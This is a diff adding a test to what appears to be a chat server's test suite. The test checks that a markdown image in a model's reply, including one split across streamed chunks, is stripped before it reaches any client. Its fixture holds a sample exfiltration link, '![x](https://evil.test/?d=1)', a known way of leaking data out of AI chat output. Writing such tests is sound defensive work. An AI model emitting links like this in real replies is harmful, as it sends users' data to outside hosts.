@@ -179,3 +179,15 @@ async def test_an_answer_that_fails_is_an_error_of_the_server_and_the_question_i
             async for _ in await ai.chat.completions.create(**ASK, stream=True):
                 pass
         assert [row["turns"] for row in await threads(client)] == [1, 1]
+
+
+async def test_i5_an_image_in_an_answer_reaches_no_client_streamed_or_not(serving):
+    async with (
+        serving([Reply("See !", "[x](https://evil.test/?d=1)."), "See ![x](https://evil.test/?d=1)."]) as client,
+        speaking(client) as ai,
+    ):
+        stream = await ai.chat.completions.create(**ASK, stream=True)
+        streamed = "".join([chunk.choices[0].delta.content or "" async for chunk in stream])
+        whole = (await ai.chat.completions.create(**ASK)).choices[0].message.content
+        assert "![" not in streamed
+        assert streamed == whole
